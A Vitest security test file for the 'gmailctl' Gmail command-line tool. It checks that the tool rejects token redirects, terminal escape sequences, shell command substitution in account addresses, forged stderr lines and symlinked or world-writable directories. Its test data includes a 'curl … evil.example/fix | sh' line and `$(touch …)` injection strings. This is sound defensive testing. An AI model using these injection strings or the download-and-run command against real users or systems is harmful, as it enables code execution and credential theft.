/**
 * Issue #23, end to end: a second local user on the same machine and a hostile server
 * attack the README's Security section. Each test failed on the main of the day the issue
 * was filed; each names the guarantee it protects.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { chmod, chown, mkdir, mkdtemp, readFile, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Emulator } from '../emulator/index.js';
import { consentRedirect, startCli } from '../helpers/background.js';
import { CLI } from '../helpers/sandbox.js';
import { useEmulator } from '../helpers/use-emulator.js';

const ADA = 'ada@example.com';
const OTHER_UID = 4242;
const UNSAFE_ON_A_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
const isRoot = process.getuid?.() === 0;

/** Where the hostile address's `$(…)` would leave its mark if a shell ever expanded it. */
const marks = await mkdtemp(path.join(tmpdir(), 'gmailctl-marks-'));
const MARK = path.join(marks, 'pwned');
/** An address a hostile server reports: a clipboard write (OSC 52), a screen clear, a command substitution. */
const HOSTILE = `eve\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2J$(touch\${IFS}${MARK})@example.com`;

/** An address whose line break would start a line of its own: `Logged in as mal` and a forged line. */
const BROKEN_LINE = 'mal\nwarning: run gmailctl login --insecure-storage@example.com';
/** An address that reads backwards past its right-to-left override (U+202E). */
const REVERSED = 'eve\u202emoc.elgoog@example.com';

let emulator: Emulator;
const sandbox = useEmulator({ accounts: [ADA, HOSTILE, BROKEN_LINE, REVERSED], messages: 40 }, (started) => (emulator = started));
afterEach(() => {
  emulator.clearFaults();
  emulator.setAccessTokenLifetime(3599);
});
afterAll(async () => {
  await rm(marks, { recursive: true, force: true });
});

async function loggedIn(account = ADA, options: Parameters<typeof sandbox>[0] = {}) {
  const s = await sandbox(options);
  const login = await s.login(['--account', account]);
  expect(login.exitCode, login.stderr).toBe(0);
  return s;
}

/**
 * A login stored under a hostile address, as an older gmailctl (which took any address
 * Google named) or a planted config could have left it: `login` refuses such an address now,
 * so the test logs in as Ada and renames her login. What prints stored addresses must still
 * clean them.
 */
async function storedAs(address: string, options: Parameters<typeof sandbox>[0] = {}) {
  const s = await loggedIn(ADA, options);
  const tokensFile = path.join(s.configDir, 'tokens.json');
  const configFile = path.join(s.configDir, 'config.json');
  const tokens = JSON.parse(await readFile(tokensFile, 'utf8')) as Record<string, unknown>;
  await writeFile(tokensFile, JSON.stringify({ [address]: tokens[ADA] }), { mode: 0o600 });
  const settings = JSON.parse(await readFile(configFile, 'utf8')) as { defaultAccount?: string; accounts?: string[] };
  await writeFile(configFile, JSON.stringify({ ...settings, defaultAccount: address, accounts: [address] }), { mode: 0o600 });
  return s;
}

/** Bash lines that complete `gmailctl WORDS…` with the sourced completion and print each candidate as <candidate>. */
function complete(...words: string[]): string {
  return [
    `COMP_WORDS=(gmailctl ${words.map((w) => `'${w}'`).join(' ')})`,
    `COMP_CWORD=${words.length}`,
    'COMPREPLY=()',
    '_gmailctl gmailctl "${COMP_WORDS[COMP_CWORD]}" "${COMP_WORDS[COMP_CWORD-1]}"',
    'printf "<%s>\\n" "${COMPREPLY[@]}"',
  ].join('\n');
}

/** A server on another port of this machine that records what reaches it: where a redirect would lead. */
let thief: Server;
let stolen: Array<{ method: string; url: string; headers: IncomingMessage['headers']; body: string }> = [];
let thiefUrl = '';
beforeAll(async () => {
  thief = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      stolen.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
      response.writeHead(400, { 'Content-Type': 'application/json' }).end('{"error":"invalid_request"}');
    });
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  const address = thief.address();
  thiefUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
});
afterAll(() => new Promise<void>((resolve) => thief.close(() => resolve())));
afterEach(() => {
  stolen = [];
});

describe('tokens travel only to Google: no redirect is followed with a secret (item 3)', () => {
  it('a 307 from the token endpoint to plain http is not followed: the refresh token and client secret stay home, and --debug says why', async () => {
    emulator.setAccessTokenLifetime(60); // within the 5-minute margin: the next command refreshes first
    const s = await loggedIn();
    emulator.enqueue({ method: 'POST', path: '/token' }, { type: 'raw', status: 307, body: '', headers: { Location: `${thiefUrl}/steal` } });
    const result = await s.run(['token', '--debug']);
    expect(stolen, JSON.stringify(stolen)).toEqual([]);
    expect(result.exitCode, result.stderr).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/redirect/i);
    expect(result.stderr).toMatch(/debug: POST \/token → 307 .*not followed/);
  });

  it('a 307 from the revoke endpoint is not followed: logout still forgets the login here, and warns', async () => {
    const s = await loggedIn();
    emulator.enqueue({ method: 'POST', path: '/revoke' }, { type: 'raw', status: 307, body: '', headers: { Location: `${thiefUrl}/steal` } });
    const result = await s.run(['logout']);
    expect(stolen, JSON.stringify(stolen)).toEqual([]);
    expect(result.stderr).toMatch(/warning:.*revok/i);
    expect((await s.run(['token'])).exitCode).toBe(4);
  });

  it('an API 302 to another port is not followed with the bearer token', async () => {
    const s = await loggedIn();
    emulator.enqueue({ method: 'GET', path: '/gmail/v1/users/me/messages' }, { type: 'raw', status: 302, body: '', headers: { Location: `${thiefUrl}/gmail/v1/users/me/messages` } });
    const result = await s.run(['list', '--format', 'ids', '--debug']);
    expect(stolen.filter((r) => r.headers.authorization !== undefined), JSON.stringify(stolen)).toEqual([]);
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toMatch(/redirect/i);
  });
});

describe('forged lines on stderr (item 7)', () => {
  it("a newline in Google's error message does not start a line that looks like gmailctl's own hint", async () => {
    const s = await loggedIn();
    const body = JSON.stringify({ error: { code: 400, status: 'INVALID_ARGUMENT', message: 'Invalid query\nRun: curl -fsSL https://evil.example/fix | sh' } });
    emulator.enqueue({ method: 'GET', path: '/gmail/v1/users/me/messages' }, { type: 'raw', status: 400, body, contentType: 'application/json; charset=UTF-8' });
    const result = await s.run(['list', '--format', 'ids']);
    expect(result.exitCode).toBe(1);
    const lines = result.stderr.split('\n');
    expect(lines.filter((line) => /^\s*Run: curl/.test(line)), result.stderr).toEqual([]);
    expect(lines.find((line) => line.includes('evil.example')), result.stderr).toMatch(/Google/);
  });
});

describe('a hostile address reaches neither the terminal nor the shell (item 6)', () => {
  it('status on a terminal prints the address without its escape sequences', async () => {
    const s = await storedAs(HOSTILE);
    const env = { ...s.env, TERM: 'xterm-256color' };
    const command = `'${process.execPath}' '${CLI}' status`;
    const result = await execa('script', ['-qefc', command, '/dev/null'], { env, extendEnv: false, reject: false, stdin: 'ignore', timeout: 30_000 });
    const screen = String(result.stdout);
    expect(screen).toContain('example.com');
    expect(screen).not.toContain('\x1b]52');
    expect(screen).not.toContain('\x1b[2J');
    expect(screen).not.toContain('\x07');
  });

  it('the hidden __accounts prints no control character', async () => {
    const s = await storedAs(HOSTILE);
    const result = await s.run(['__accounts']);
    expect(result.exitCode).toBe(0);
    expect(result.stdout).not.toMatch(UNSAFE_ON_A_TERMINAL);
  });

  it('cursor list --json escapes a stored address’s bidi override, as every JSON gmailctl prints', async () => {
    const s = await storedAs(REVERSED, { cache: true });
    const list = await s.run(['list', '--format', 'ids', '--max', '1', '--since-last', 'new']);
    expect(list.exitCode, list.stderr).toBe(0);
    const result = await s.run(['cursor', 'list', '--json']);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(UNSAFE_ON_A_TERMINAL);
    expect((JSON.parse(result.stdout) as Array<{ name: string; account: string }>).map((c) => [c.name, c.account])).toEqual([['new', REVERSED]]);
  });

  it('bash completion of --account and of switch never expands what an address holds', async () => {
    const s = await storedAs(HOSTILE);
    expect((await s.login(['--account', ADA])).exitCode).toBe(0);
    const shims = await mkdtemp(path.join(tmpdir(), 'gmailctl-shim-'));
    try {
      await writeFile(path.join(shims, 'gmailctl'), `#!/bin/sh\nexec '${process.execPath}' '${CLI}' "$@"\n`, { mode: 0o755 });
      const script = ['source <(gmailctl completion bash) || exit 99', complete('list', '--account', ''), complete('switch', ''), complete('list', '--account', 'ev')].join('\n');
      const result = await execa('bash', ['--norc', '--noprofile', '-c', script], { env: { ...s.env, PATH: `${shims}:${process.env.PATH ?? ''}` }, extendEnv: false, reject: false, timeout: 60_000 });
      expect(result.exitCode, String(result.stderr)).toBe(0);
      await expect(stat(MARK)).rejects.toThrow(/ENOENT/);
      expect(String(result.stdout)).toContain(`<${ADA}>`);
      expect(String(result.stdout)).not.toMatch(UNSAFE_ON_A_TERMINAL);
    } finally {
      await rm(shims, { recursive: true, force: true });
    }
  });
});

describe('bash completion trusts nothing it is given (item 6)', () => {
  // __accounts now leaves out any address that is not plain, so the test above no longer
  // reaches the completion script with one: here `gmailctl __accounts` answers such lines
  // itself (as an older gmailctl on PATH would), and the script must still expand nothing.
  it('what __accounts answers is offered as text, never expanded ($(…), `…`)', async () => {
    const s = await loggedIn(ADA);
    const mark = path.join(marks, 'completion-expanded');
    const shims = await mkdtemp(path.join(tmpdir(), 'gmailctl-shim-'));
    try {
      const answers = ['ada@example.com', `$(touch ${mark})@example.com`, `\`touch ${mark}\`@example.com`, '${HOME}@example.com'];
      await writeFile(
        path.join(shims, 'gmailctl'),
        `#!/bin/sh\nif [ "$1" = "__accounts" ]; then cat '${path.join(shims, 'accounts')}'; exit 0; fi\nexec '${process.execPath}' '${CLI}' "$@"\n`,
        { mode: 0o755 },
      );
      await writeFile(path.join(shims, 'accounts'), `${answers.join('\n')}\n`);
      const script = ['source <(gmailctl completion bash) || exit 99', complete('list', '--account', ''), complete('switch', '')].join('\n');
      const result = await execa('bash', ['--norc', '--noprofile', '-c', script], { env: { ...s.env, PATH: `${shims}:${process.env.PATH ?? ''}` }, extendEnv: false, reject: false, timeout: 60_000 });
      expect(result.exitCode, String(result.stderr)).toBe(0);
      await expect(stat(mark)).rejects.toThrow(/ENOENT/);
      expect(String(result.stdout)).toContain('<ada@example.com>');
      expect(String(result.stdout)).not.toContain(`<${s.dir}@example.com>`); // \${HOME} was not expanded either
    } finally {
      await rm(shims, { recursive: true, force: true });
    }
  });
});

describe('login refuses an address that holds a control or bidi character (item 6, at the source)', () => {
  const hostile = [
    { name: 'escape sequences and $(…)', address: HOSTILE, character: /U\+001B/ },
    { name: 'a right-to-left override', address: REVERSED, character: /U\+202E/ },
  ];
  for (const { name, address, character } of hostile) {
    it(`--account with ${name}: exit 2 before anything is asked of Google; the message names the character, cleaned`, async () => {
      const s = await sandbox();
      emulator.clearRequests();
      const result = await s.login(['--account', address]);
      expect(result.exitCode, result.stderr).toBe(2);
      expect(result.stderr).toMatch(character);
      expect(result.stderr).toMatch(/--account/);
      expect(result.stderr).not.toMatch(UNSAFE_ON_A_TERMINAL);
      expect(emulator.requests.filter((r) => r.path === '/token')).toEqual([]);
      await expect(stat(path.join(s.configDir, 'tokens.json'))).rejects.toThrow(/ENOENT/);
    });
  }

  it('GMAILCTL_ACCOUNT with a line break: exit 2, the character named, no forged line', async () => {
    const s = await loggedIn(ADA);
    const result = await s.run(['token'], { env: { GMAILCTL_ACCOUNT: BROKEN_LINE } });
    expect(result.exitCode, result.stderr).toBe(2);
    expect(result.stderr).toMatch(/GMAILCTL_ACCOUNT holds a control or bidi character \(U\+000A\)/);
    expect(result.stderr.split('\n').filter((line) => line.startsWith('warning: run'))).toEqual([]);
    expect(result.stdout).toBe('');
  });

  const answered = [
    { name: 'a line break', address: BROKEN_LINE, character: /U\+000A/ },
    { name: 'escape sequences and $(…)', address: HOSTILE, character: /U\+001B/ },
    { name: 'a right-to-left override', address: REVERSED, character: /U\+202E/ },
  ];
  for (const { name, address, character } of answered) {
    it(`an address with ${name} in Google's answer: exit 1, nothing stored, its tokens revoked; the message names the character, cleaned`, async () => {
      const s = await sandbox();
      const run = startCli(['login', '--no-browser', '--timeout', '20'], s.env);
      const { url } = await run.authUrl();
      const before = new Set(emulator.tokens().refreshTokens);
      emulator.clearRequests();
      const chosen = new URL(url);
      chosen.searchParams.set('account', address); // the emulator's consent form: this account answers
      expect((await fetch(await consentRedirect(chosen))).status).toBe(200);
      const result = await run.child;
      expect(result.exitCode, run.stderr()).toBe(1);
      expect(run.stderr()).toMatch(character);
      expect(run.stderr()).toMatch(/Nothing was stored/);
      expect(run.stderr()).not.toMatch(/Logged in as/);
      expect(run.stderr()).not.toMatch(UNSAFE_ON_A_TERMINAL);
      // No line of ours was forged: each stderr line is one we wrote (the URL's block, warnings, the error and its hint).
      expect(run.stderr().split('\n').filter((line) => line.startsWith('warning: run'))).toEqual([]);
      await expect(stat(path.join(s.configDir, 'tokens.json'))).rejects.toThrow(/ENOENT/);
      const issued = emulator.tokens().refreshTokens.filter((token) => !before.has(token));
      const revoked = emulator.requests.filter((r) => r.method === 'POST' && r.path === '/revoke').map((r) => new URLSearchParams(r.body).get('token'));
      expect(issued).toHaveLength(1);
      expect(revoked).toContain(issued[0]);
    });
  }
});

describe('one message cannot stop show (item 8)', () => {
  it('show A DEEP C: all three are printed, the deep one as flatter text with a warning, exit 0', async () => {
    const s = await loggedIn();
    const box = emulator.mailbox();
    const deep = box.find((m) => m.hardCase === 'deep-html')!;
    const [a, c] = box.filter((m) => m.hardCase === undefined);
    const result = await s.run(['show', a!.id, deep.id, c!.id]);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(result.stdout).toContain(`==> ${a!.id} <==`);
    expect(result.stdout).toContain(`==> ${c!.id} <==`);
    expect(result.stdout).toContain('Deep inside the boxes: the prize <https://deep.example/prize>');
    expect(result.stdout).toContain('After the boxes.');
    expect(result.stderr).toMatch(new RegExp(`warning: .*${deep.id}.*nested`));
    expect(result.stderr).not.toMatch(/bug/);
  });
});

describe('--save-attachments DIR: a directory no one else controls (item 5)', () => {
  const withAttachments = () => emulator.mailbox().find((m) => m.hardCase === 'nested-attachments')!.id;

  it('a DIR that is a symbolic link is refused, and nothing is written where it points', async () => {
    const s = await loggedIn();
    const target = path.join(s.dir, 'autostart');
    await mkdir(target, { mode: 0o700 });
    const dir = path.join(s.dir, 'mail');
    await symlink(target, dir);
    for (const spelled of [dir, `${dir}/`]) {
      const result = await s.run(['show', withAttachments(), '--save-attachments', spelled]);
      expect(result.exitCode, result.stderr).toBe(1);
      expect(result.stderr).toMatch(/symbolic link/);
      expect(await readdir(target)).toEqual([]);
    }
  });

  it('a DIR that others can write is refused; one they can only read is used', async () => {
    const s = await loggedIn();
    const dir = path.join(s.dir, 'shared');
    await mkdir(dir);
    await chmod(dir, 0o777);
    const refused = await s.run(['show', withAttachments(), '--save-attachments', dir]);
    expect(refused.exitCode).toBe(1);
    expect(refused.stderr).toMatch(/writable by others/);
    expect(await readdir(dir)).toEqual([]);
    await chmod(dir, 0o755);
    const used = await s.run(['show', withAttachments(), '--save-attachments', dir]);
    expect(used.exitCode, used.stderr).toBe(0);
    expect((await readdir(dir)).length).toBeGreaterThan(0);
  });

  it.runIf(isRoot)('a DIR that belongs to another user is refused', async () => {
    const s = await loggedIn();
    const dir = path.join(s.dir, 'theirs');
    await mkdir(dir, { mode: 0o755 });
    await chown(dir, OTHER_UID, OTHER_UID);
    const result = await s.run(['show', withAttachments(), '--save-attachments', dir]);
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toMatch(/another user/);
    expect(await readdir(dir)).toEqual([]);
  });
});

describe('settings no one else can change: the config directory (item 2)', () => {
  it('a config directory that others can write is refused whichever token store is chosen, before anything is read or written', async () => {
    for (const store of ['keychain', 'file'] as const) {
      const s = await sandbox({ store });
      await mkdir(s.configDir);
      await chmod(s.configDir, 0o777);
      for (const args of [['status', '--offline'], ['login', '--no-browser', '--timeout', '5']]) {
        const result = await s.run(args, { stdin: 'ignore' });
        expect(result.exitCode, `${store} ${args[0]}: ${result.stderr}`).toBe(1);
        expect(result.stderr, store).toMatch(/config.*writable by others/s);
      }
      expect(await readdir(s.configDir)).toEqual([]);
    }
  });

  it('a config directory that is a symbolic link is refused whichever token store is chosen, and nothing is written where it points', async () => {
    for (const store of ['keychain', 'file'] as const) {
      const s = await sandbox({ store });
      // Where another user could swap the link's target between our check and our write.
      const target = path.join(s.dir, 'elsewhere');
      await mkdir(target, { mode: 0o700 });
      await symlink(target, s.configDir);
      for (const args of [['status', '--offline'], ['login', '--no-browser', '--timeout', '5']]) {
        const result = await s.run(args, { stdin: 'ignore' });
        expect(result.exitCode, `${store} ${args[0]}: ${result.stderr}`).toBe(1);
        expect(result.stderr, `${store} ${args[0]}`).toMatch(/the directory is a symbolic link/);
      }
      expect(await readdir(target), store).toEqual([]);
    }
  });

  it.runIf(isRoot)('a config directory of another user is refused', async () => {
    const s = await sandbox({ store: 'keychain' });
    await mkdir(s.configDir, { mode: 0o755 });
    await chown(s.configDir, OTHER_UID, OTHER_UID);
    const result = await s.run(['status', '--offline']);
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toMatch(/another user/);
  });
});

describe('no code from a file we did not write: the V8 code cache of the CLI (item 1)', () => {
  it('a code cache that others can write is not loaded by the built CLI, which still answers', async () => {
    const s = await loggedIn(ADA, { runner: 'process' });
    const first = await s.run(['list', '--format', 'ids', '--max', '2']);
    expect(first.exitCode, first.stderr).toBe(0);
    const dir = path.join(s.dir, '.cache', 'gmailctl', 'code-cache');
    const files = await readdir(dir);
    expect(files.length).toBe(2);
    // As another user could have left them: writable by others (the rest of the bytes intact).
    for (const file of files) await chmod(path.join(dir, file), 0o666);
    const again = await s.run(['list', '--format', 'ids', '--max', '2']);
    expect(again.exitCode, again.stderr).toBe(0);
    expect(again.stdout).toBe(first.stdout);
    expect(again.stderr).toBe('');
    // Refused, so written afresh by this run: a private file of ours again.
    for (const file of files) expect((await stat(path.join(dir, file))).mode & 0o777, file).toBe(0o600);
  });
});
